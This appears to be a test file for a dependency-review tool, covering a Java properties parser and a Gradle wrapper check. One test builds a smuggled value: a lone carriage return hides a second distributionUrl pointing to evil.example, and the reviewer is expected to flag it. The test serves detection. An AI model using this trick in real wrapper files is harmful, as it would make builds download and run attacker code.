// Java properties (gradle-wrapper.properties) read as java.util.Properties.load reads them: a lone `\r`
// ends a line too, so a second distributionUrl after one is the one the wrapper downloads and runs.
import { reviewDependencyChange } from '../../../src/core/dependency-review.js';
import { parseProperties } from '../../../src/core/formats/ini.js';

const settings = (text: string) => Object.fromEntries(parseProperties(text));

describe('properties grammar', () => {
  test.each([
    ['distributionUrl=https\\://a.example/g.zip\n', { distributionUrl: 'https://a.example/g.zip' }],
    ['a = 1\rb : 2\r\nc 3\n', { a: '1', b: '2', c: '3' }],
    ['# c\n! c\n  key=va\\\n    lue\n', { key: 'value' }],
    ['k\\u003dx=v\n', { 'k=x': 'v' }],
    ['k\u00a0x=v\n', { 'k\u00a0x': 'v' }],
  ])('%j', (text, expected) => {
    expect(settings(text)).toEqual(expected);
  });
});

test('attack: a distributionUrl after a lone carriage return is the one the wrapper reads', () => {
  const base = 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\n';
  const head = 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\rdistributionUrl=https\\://evil.example/gradle.zip\n';
  const f = reviewDependencyChange('gradle/wrapper/gradle-wrapper.properties', base, head, ['services.gradle.org']);
  // The source rule denies the host; the file's own rule says what the setting is.
  expect(f.map((x) => x.code)).toEqual(['dependency_host_not_allowed', 'wrapper_distribution_url']);
  expect(f.find((x) => x.code === 'wrapper_distribution_url')!.message).toContain('host "evil.example" is not in the network allow list');
});
